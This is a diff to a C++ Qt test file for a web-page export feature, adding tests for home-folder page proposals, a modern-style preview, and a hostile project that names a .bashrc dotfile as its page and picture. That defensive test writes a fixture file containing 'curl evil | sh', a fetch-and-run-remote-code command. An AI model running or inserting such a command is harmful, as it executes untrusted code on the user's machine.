@@ -9,6 +9,7 @@
 
 #include "support/FakeShell.h"
 #include "support/FullFileSystem.h"
+#include "support/MediaBytes.h"
 
 #include <QTemporaryDir>
 #include <QUrl>
@@ -36,7 +37,7 @@ struct Fixture : ::testing::Test {
         setProgramFolder(dir.path() + QStringLiteral("/prog"));
         QDir(dir.path()).mkpath(QStringLiteral("prog"));
         QDir(dir.path()).mkpath(QStringLiteral("web"));
-        std::ofstream(path("pic.png").toStdString(), std::ios::binary) << "PNG";
+        std::ofstream(path("pic.png").toStdString(), std::ios::binary) << test::pngBytes();
         project.sections = { joinFields({ "Image", "u", path("pic.png").toStdString(), "", "", "",
                                  "", "0", "", "0", "", "1", "1" }),
             joinFields({ "Image", "u", path("gone.png").toStdString(), "", "", "", "", "0", "", "0",
@@ -81,8 +82,10 @@ TEST_F(Fixture, CreateCancelledKeepsTheProposal)
     runCreateWebPage(nullptr, project, lists, {});
     ASSERT_EQ(dialogs.asked().size(), 2u);
     EXPECT_EQ(dialogs.asked()[1].what, QStringLiteral("save"));
-    EXPECT_EQ(dialogs.asked()[1].initial, QStringLiteral("index.html"));
-    EXPECT_EQ(project.pageFileName, "index.html");
+    // A project never saved: its page is proposed in the home folder, never in the program's.
+    const QString home = QDir::homePath() + QStringLiteral("/index.html");
+    EXPECT_EQ(dialogs.asked()[1].initial, home);
+    EXPECT_EQ(project.pageFileName, home.toStdString());
 
     dialogs.clear();
     project.pageFileName.clear();
@@ -120,6 +123,30 @@ TEST_F(Fixture, CreateWritesCopiesShowsFolderAndTests)
         QStringLiteral("start /usr/bin/web|--new|") + QUrl::fromLocalFile(page).toString()
             + QStringLiteral(" in "));
     EXPECT_TRUE(dialogs.unexpected().empty());
+}
+
+// A stranger's project names a dotfile as its page and as a picture: the window proposes a
+// page's name in the project's folder, the dotfile is not copied and the box names it.
+TEST_F(Fixture, CreateWithAHostileProjectProposesAPageAndNamesWhatItSkipped)
+{
+    QDir(dir.path()).mkpath(QStringLiteral("skel"));
+    std::ofstream(path("skel/.bashrc").toStdString(), std::ios::binary) << "curl evil | sh\n";
+    std::ofstream(path("web/.bashrc").toStdString(), std::ios::binary) << "MINE";
+    project.pageFileName = ".bashrc";
+    project.sections = { joinFields({ "Image", "u", path("skel/.bashrc").toStdString(), "", "", "",
+        "", "0", "", "0", "", "1", "1" }) };
+    dialogs.queue(Answer::Ok);
+    dialogs.queueText(path("web/bashrc.html"));
+    dialogs.queue(Answer::Ok); // the files not copied
+    dialogs.queue(Answer::No); // "Do you want to test it?"
+    runCreateWebPage(nullptr, project, lists, {}, path("web/site.stv"));
+    EXPECT_EQ(dialogs.asked()[1].initial, path("web/bashrc.html"));
+    ASSERT_EQ(dialogs.messages().size(), 1u);
+    EXPECT_TRUE(
+        dialogs.messages()[0].contains(QStringLiteral("a hidden file: ") + path("skel/.bashrc")));
+    std::ifstream kept(path("web/.bashrc").toStdString(), std::ios::binary);
+    EXPECT_EQ(std::string(std::istreambuf_iterator<char>(kept), {}), "MINE");
+    EXPECT_TRUE(QFile::exists(path("web/bashrc.html")));
 }
 
 TEST_F(Fixture, CreateReportsAPageThatCannotBeWritten)
@@ -164,6 +191,16 @@ TEST_F(Fixture, PreviewWritesTestPageAndOpensItInTheBrowser)
     QFile f(page);
     ASSERT_TRUE(f.open(QIODevice::ReadOnly));
     EXPECT_TRUE(f.readAll().contains(("<IMG SRC=\"" + path("pic.png") + "\" >").toUtf8()));
+    f.close();
+
+    // With the modern style ticked the preview is the modern page, its pictures where they are.
+    PageOptions modern;
+    modern.style = PageStyle::Modern;
+    runPreview(nullptr, project, lists, modern);
+    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+    const QByteArray bytes = f.readAll();
+    EXPECT_TRUE(bytes.startsWith("<!DOCTYPE html>"));
+    EXPECT_TRUE(bytes.contains(("<img src=\"" + path("pic.png") + "\"").toUtf8()));
 }
 
 // Each launch the desktop refuses gives a box naming what could not be opened; a folder
